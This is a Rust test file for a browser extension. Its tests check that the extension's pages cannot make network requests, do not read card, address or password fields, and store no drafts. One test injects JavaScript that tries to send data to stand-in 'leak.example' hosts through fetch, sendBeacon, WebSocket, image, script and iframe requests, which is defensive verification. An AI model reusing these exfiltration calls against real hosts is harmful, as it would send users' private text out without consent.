//! The promise that nothing leaves the browser, proven: every request of every trial is recorded, wherever it came
//! from; the extension could ask for nothing even if it tried; and no draft is written to any store.

use serde_json::json;

use super::checklist::lets_pass;
use super::guards::{draft_wrong, has_published, town};
use super::settings::{compose, forget, is_marked};
use super::trials::{Case, Visit};
use super::{Browser, Result, Trouble, text};

/// What tests ask for to show that it would be noticed.
const ON_PURPOSE: [&str; 2] = ["leak.example", "page.example"];
/// Where the pages of the bench and of the browser itself lie.
const HERE: [&str; 10] = [
    "http://127.0.0.1:",
    "http://localhost:",
    "chrome-extension:",
    "moz-extension:",
    "data:",
    "blob:",
    "about:",
    "chrome:",
    "resource:",
    "devtools:",
];

/// The promise.
pub const PRIVACY: [Case; 3] = [
    ("privacy: pages and background can ask for nothing, even if they try", can_ask_for_nothing),
    ("privacy: a field for a person's data is not read, whatever stands beside that word, nor one that becomes one", reads_no_data),
    ("privacy: a session of typing, deciding and publishing leaves no draft in any store", stores_nothing),
];

/// Requests since the last look that nobody may make: to other machines, whoever asked for them. The browser's own are
/// not among them.
pub fn leaks(browser: &Browser) -> Result<Vec<String>> {
    let told = browser.requests()?.into_iter().map(|request| request.url);
    let foreign = told.filter(|url| !HERE.iter().any(|here| url.starts_with(here)));
    let all = browser.outbound().into_iter().chain(foreign);
    Ok(all.filter(|line| !ON_PURPOSE.iter().any(|host| line.contains(host))).collect())
}

fn can_ask_for_nothing(visit: &Visit) -> Result<()> {
    let fetching = "fetch('https://leak.example/').then(() => 'sent', error => `refused: ${error}`)";
    let answer = text(&visit.browser.background(fetching)?);
    assert!(answer.starts_with("refused"), "the background: {answer}");
    let ways = "async () => {
        const refused = new Set();
        addEventListener('securitypolicyviolation', event => refused.add(event.effectiveDirective.replace('-elem', '')));
        const image = new Image();
        image.src = 'https://image.leak.example/';
        await fetch('https://fetch.leak.example/').catch(() => {});
        try { new WebSocket('wss://socket.leak.example/'); } catch {}
        navigator.sendBeacon('https://beacon.leak.example/', 'draft');
        const script = document.createElement('script');
        script.src = 'https://script.leak.example/';
        document.head.append(script);
        const frame = document.createElement('iframe');
        frame.src = 'https://frame.leak.example/';
        document.body.append(frame);
        for (let frames = 0; frames < 300 && refused.size < 4; frames++) await new Promise(requestAnimationFrame);
        return [...refused].sort();
    }";
    for path in ["options/options.html", "welcome/welcome.html", "log/log.html", "popup/popup.html"] {
        let page = visit.browser.extension_page(path)?;
        let refused = page.call(ways, &json!([]))?;
        assert_eq!(refused, json!(["connect-src", "frame-src", "img-src", "script-src"]), "{path}");
    }
    // Chromium opens a line for a frame before it refuses the frame, and sends nothing over it.
    let asked: Vec<_> = visit.browser.outbound().into_iter().filter(|line| !line.contains("frame.leak.example")).collect();
    assert!(asked.is_empty(), "nothing came as far as the network: {asked:?}");
    Ok(())
}

fn reads_no_data(visit: &Visit) -> Result<()> {
    const STATUS: &str = "document.querySelector('[data-qz7=status]')";
    const WRONG: &str = "Mañana se abre el plazo";
    let page = compose(visit, WRONG)?;
    is_marked(&page)?;
    let add = "autocomplete => {
        const field = Object.assign(document.createElement('input'), { id: 'card', type: 'text' });
        field.setAttribute('autocomplete', autocomplete);
        form.append(field);
    }";
    for autocomplete in ["billing cc-number", "section-home shipping street-address", "work email", "Username webauthn"] {
        page.call(add, &json!([autocomplete]))?;
        page.click("#card")?;
        page.type_text(WRONG)?;
        page.wait_until(&format!("«{autocomplete}» is left alone"), &format!("!{STATUS}"))?;
        page.eval("(card.remove(), null)")?;
    }
    page.click("#message")?;
    page.type_text(WRONG)?;
    page.wait_until("a common field is watched", STATUS)?;
    let list = visit.browser.checklist_of(&page)?;
    list.wait_until("both drafts are known", "document.getElementById('draft').options.length === 2")?;
    page.activate()?;
    page.eval("(message.type = 'password', message.focus(), null)")?;
    page.type_text("x")?;
    list.wait_until("a password is known no more", "document.getElementById('draft').options.length < 2")?;
    page.eval("(message.type = 'text', null)")?;
    page.click("#post")?;
    page.click("#message")?;
    page.type_text("y")?;
    page.wait_until("it stays one also while it is shown", &format!("!{STATUS}"))
}

/// Everything that an extension can keep: its storage areas, and what every page has.
const STORES: &str = "(async () => JSON.stringify([
    await Promise.all(['local', 'sync', 'session'].map(area => chrome.storage[area].get(null))),
    { ...globalThis.localStorage }, { ...globalThis.sessionStorage },
    await indexedDB.databases(), await caches.keys(), document.cookie,
]))()";

fn stores_nothing(visit: &Visit) -> Result<()> {
    forget(visit.browser)?;
    let page = compose(visit, "Mañana se abre el plazo de solicitudes. TODO poner enlace")?;
    is_marked(&page)?;
    page.click("#reply")?;
    page.type_text("Garantizamos plaza a todo el mundo.")?;
    let id = visit.browser.tab_id(&page)?;
    let list = visit.browser.extension_page(&format!("popup/popup.html?tab={id}"))?;
    list.wait_until("both drafts are listed", "document.getElementById('draft').options.length === 2")?;
    lets_pass(&list, "Lo confirma Secretaría")?;
    list.click("[data-act=copy]")?;
    list.wait_until("the review is copied", "document.getElementById('said').textContent !== ''")?;
    let town = town(visit, "")?;
    draft_wrong(&town)?;
    town.press("Ctrl+Enter")?;
    town.press("Ctrl+Enter")?;
    has_published(&town, 1)?;
    let welcome = visit.browser.extension_page("welcome/welcome.html")?;
    welcome.wait_until("the box is there", "document.body.dataset.ready !== undefined")?;
    welcome.click("#box")?;
    welcome.type_text("Un borrador privado")?;
    let stored = text(&welcome.eval(STORES)?);
    for words in ["plazo", "solicitudes", "Garantizamos", "Secretar", "biblioteca", "poner enlace", "borrador privado"] {
        if stored.contains(words) {
            return Err(Trouble::new(format!("«{words}» is stored: {stored}")));
        }
    }
    Ok(())
}
